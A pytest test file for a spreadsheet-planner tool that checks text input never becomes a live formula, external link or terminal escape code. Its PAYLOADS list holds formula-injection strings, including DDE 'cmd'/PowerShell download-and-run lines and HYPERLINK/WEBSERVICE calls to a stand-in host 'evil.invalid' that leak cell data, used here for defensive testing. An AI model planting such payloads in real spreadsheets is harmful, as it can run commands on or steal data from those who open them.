"""Test that no text becomes a formula, command, link or code, whichever way it gets into a cell."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from lxml import etree

from core import catalog
from core.catalog.rows import COLUMNS, row_of, with_row
from core.errors import UnknownNameError
from core.texts import FORMULA_STARTS, NOT_PRINTABLE
from tests.fuzz.seeds import LLAMA
from tests.paths import ROOT
from tests.workbook.reading import read
from vram.cli.model import _append
from workbook.labels import Labels
from workbook.template import build

pytestmark = [pytest.mark.slow, pytest.mark.usefixtures("few_models")]

MARK = "evil"
# OWASP, "CSV Injection" and "Testing for Formula Injection"; the codes of headers and footers of ECMA-376 18.3.1.46.
# Each contains the word MARK, by which it is found in a file.
PAYLOADS = (
    '=1+1&"evil"', "+1+evil", "-1+evil", "@SUM(evil)", "\t=evil", "\r=evil", "\n=evil", "＝1＋evil", "＋evil",
    "－evil", "＠evil",
    "=cmd|' /C calc'!evil", "=cmd|'/C powershell IEX(wget evil/s)'!A0",
    '=HYPERLINK("http://evil.invalid?l="&A1,"evil")',
    '=DDE("cmd";"/C calc";"evil")', "=MSEXCEL|'\\..\\..\\evil.exe'!''", '=WEBSERVICE("http://evil.invalid")',
    '=IMPORTXML("http://evil.invalid","//a")', "=[http://evil.invalid/x.xlsx]Sheet1!A1", "'=evil", "''=evil", '"=evil',
    "http://evil.invalid/", "https://evil.invalid", "ftp://evil.invalid", "file:///evil", "mailto:evil@evil.invalid",
    "\\\\evil\\share", "internal:evil!A1", "external:evil.xlsx", "#evil!A1", "javascript:evil", "{=evil}",
    '&Z&F &G &P &"Arial" evil', "[evil]", "evil]'!A1", "evil'!A1", "'evil'", "History evil", "<f>evil</f>", "&evil;",
    "]]><c><f>evil</f></c>", "_x003D_evil", "evil\x1b]0;title\x07", "evil\u202e", "%evil%", "$evil$(id)`id`",
    "{{evil}}",
)  # fmt: skip
LANGUAGE = "en"


def formulas(path: Path) -> list[str]:
    """Return everything in the file that a spreadsheet program computes: cells, names, rules, charts' references."""
    live = "f formula formula1 formula2 definedName calculatedColumnFormula totalsRowFormula cfvo".split()
    found = []
    with zipfile.ZipFile(path) as package:
        for part in package.namelist():
            root = etree.fromstring(package.read(part))
            for element in root.iter(etree.Element):
                if etree.QName(element).localname in live:
                    found += [element.text or "", *element.attrib.values()]
    return found


def without_quoted(formula: str) -> str:
    """Return the formula without texts and quoted sheet names, which compute nothing."""
    return re.sub(r"\"(?:[^\"]|\"\")*\"|'(?:[^']|'')*'", "", formula)


def assert_nothing_is_live(path: Path) -> None:
    own_sheets = {f"{name}!" for name in openpyxl.load_workbook(path, read_only=True).sheetnames}
    computed = [without_quoted(formula) for formula in formulas(path)]
    assert [part for part in computed if MARK in part.lower() and part[: part.find("!") + 1] not in own_sheets] == []
    with zipfile.ZipFile(path) as package:
        parts = {part: package.read(part) for part in package.namelist()}
    assert not [part for part in parts if re.search(r"externalLink|vbaProject|connections|embeddings|customXml", part)]
    for part, content in parts.items():
        root = etree.fromstring(content)
        if part.endswith(".rels"):
            assert not [relation for relation in root if relation.get("TargetMode") == "External"], part
            assert MARK.encode() not in content
        for element in root.iter(etree.Element):
            name = etree.QName(element).localname
            assert name not in ("ddeLink", "oleLink", "webPr")
            if name in ("oddHeader", "oddFooter", "evenHeader", "evenFooter", "firstHeader", "firstFooter"):
                assert MARK not in (element.text or "")
            if name == "hyperlink":
                assert not element.attrib.get("{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id")
    book = read(path)
    for ws in book:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS) and MARK in cell.value:
                    assert (cell.data_type == "s" and cell.quotePrefix) or cell.data_type == "f", (cell, cell.value)


@pytest.fixture
def own(tmp_path, monkeypatch):
    """Write a file of models in which every free text is a payload."""
    content = b""
    for number, payload in enumerate(PAYLOADS):
        row = row_of(LLAMA, name=f"mine-{number}", title="Mine", source="here", as_of="2026-11-26")
        text = NOT_PRINTABLE.sub("", payload).strip()
        row |= {"title": text, "developer": text, "licence": text, "source": text, "aliases": text}
        content = with_row(content, row)
    path = tmp_path / "my_models.csv"
    path.write_bytes(content)
    monkeypatch.setenv(catalog.MODELS_VARIABLE, str(path))
    return path


def test_texts_of_own_models_in_the_planner(own, tmp_path):
    (tmp_path / "planner.xlsx").write_bytes(build(LANGUAGE)[0])
    assert_nothing_is_live(tmp_path / "planner.xlsx")


def test_titles_of_scenarios_and_models_in_decision_sheets(own, vram, tmp_path):
    scenarios = tmp_path / "scenarios.csv"
    with open(scenarios, "w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["scenario", "model", "context", "users", "gpu_memory_gb"])
        writer.writerows([payload, f"mine-{number}", 1000, 1, 80] for number, payload in enumerate(PAYLOADS))
    assert vram("export", scenarios, "-o", tmp_path / "out.xlsx")[0] == 0
    assert_nothing_is_live(tmp_path / "out.xlsx")
    sheets = openpyxl.load_workbook(tmp_path / "out.xlsx", read_only=True).sheetnames
    assert len(sheets) == len(PAYLOADS) + 2  # the index and the assumptions
    assert vram("audit", tmp_path / "out.xlsx", "--no-house")[0] == 0


@pytest.fixture
def filled(small_planners, tmp_path):
    """Write a planner with a payload in every text input."""
    book, labels = openpyxl.load_workbook(small_planners[LANGUAGE]), Labels(LANGUAGE)
    ws = book[labels("sheet.scenarios")]
    header = next(row for row in ws.iter_rows() if row[0].value == labels("scenarios.scenario"))
    column = {cell.value: cell.column for cell in header}
    for i, payload in enumerate(payload for payload in PAYLOADS if payload.isprintable()):
        for key in ("scenario", "model", "context", "precision", "users"):
            cell = ws.cell(header[0].row + 1 + i, column[labels(f"scenarios.{key}")])
            cell.value, cell.data_type = payload, "s"
    path = tmp_path / "filled.xlsx"
    book.save(path)
    return path


@pytest.mark.parametrize("source", ["csv", "json"])
def test_texts_of_a_filled_planner_that_is_read(vram, filled, source):
    status, out, err = vram("read", filled, f"--{source}")
    assert (status, err) == (1, "")
    if source == "csv":
        rows = list(csv.reader(io.StringIO(out)))
        assert MARK in out and not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def test_the_printed_planner_has_no_terminal_codes(vram, filled):
    _, out, _ = vram("read", filled)
    assert MARK in out and not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", out)


def test_a_filled_planner_is_not_exported_and_says_so(vram, filled, tmp_path):
    status, out, err = vram("export", filled, "-o", tmp_path / "out.xlsx")
    assert (status, out) == (2, "") and "nothing was written" in err and not (tmp_path / "out.xlsx").exists()


@pytest.mark.parametrize("payload", [payload for payload in PAYLOADS if payload.startswith(FORMULA_STARTS)])
def test_no_formula_is_added_to_a_file_of_models(tmp_path, payload):
    """`vram model import` refuses names that begin like formulas before it writes anything."""
    row = dict.fromkeys(COLUMNS, "") | {"model_type": "llama", "name": "mine"}
    for column in ("name", "title", "source"):
        try:
            made = row_of(
                LLAMA, **{"name": "mine", "title": "t", "source": "s", "as_of": "2026-11-26"} | {column: payload}
            )
        except UnknownNameError:
            raise
        except ValueError as refusal:
            assert column in str(refusal)
            continue
        _append(tmp_path / "own.csv", made)
        pytest.fail(f"{payload!r} was written as {column}")
    assert row and not (tmp_path / "own.csv").exists()


@pytest.mark.skipif(sys.platform == "win32", reason="Windows allows no such name")
@pytest.mark.parametrize("name", ["a\x1b]0;evil\x07", "evil\udcff", "evil\u202e"])
def test_file_names_print_no_terminal_codes(tmp_path, name):
    """A model without a name gets the name of its folder, which every error about it prints."""
    (tmp_path / name).mkdir()
    config = tmp_path / name / "config.json"
    config.write_text(json.dumps(LLAMA))
    for arguments in (["estimate", config, "--context", 10], ["model", "import", config], ["read", config]):
        done = run_for_output([*map(str, arguments)])
        assert done.returncode in (0, 2) and b"evil" in done.stdout + done.stderr
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", (done.stdout + done.stderr).decode()), arguments


def test_output_in_an_old_code_page_is_no_error(small_planners):
    """On Windows, output redirected to a file uses the old code page (Python docs, sys.stdout)."""
    for arguments in (["estimate", "llama-3.1-70b", "--context", "10"], ["read", str(small_planners["zh"]), "--json"]):
        done = run_for_output(arguments, OF_FEW_MODELS, PYTHONIOENCODING="cp1252")
        assert done.returncode == 0 and done.stdout and done.stderr == b"", done.stderr


MAIN = "from vram.cli.main import main; main()"
OF_FEW_MODELS = f"from tests.workbook.planner_rows import few\nwith few(): {MAIN}"


def run_for_output(arguments: list[str], program: str = MAIN, **environment: str) -> subprocess.CompletedProcess[bytes]:
    command = [sys.executable, "-c", program, *arguments]
    return subprocess.run(command, cwd=ROOT, capture_output=True, timeout=120, env=os.environ | environment)
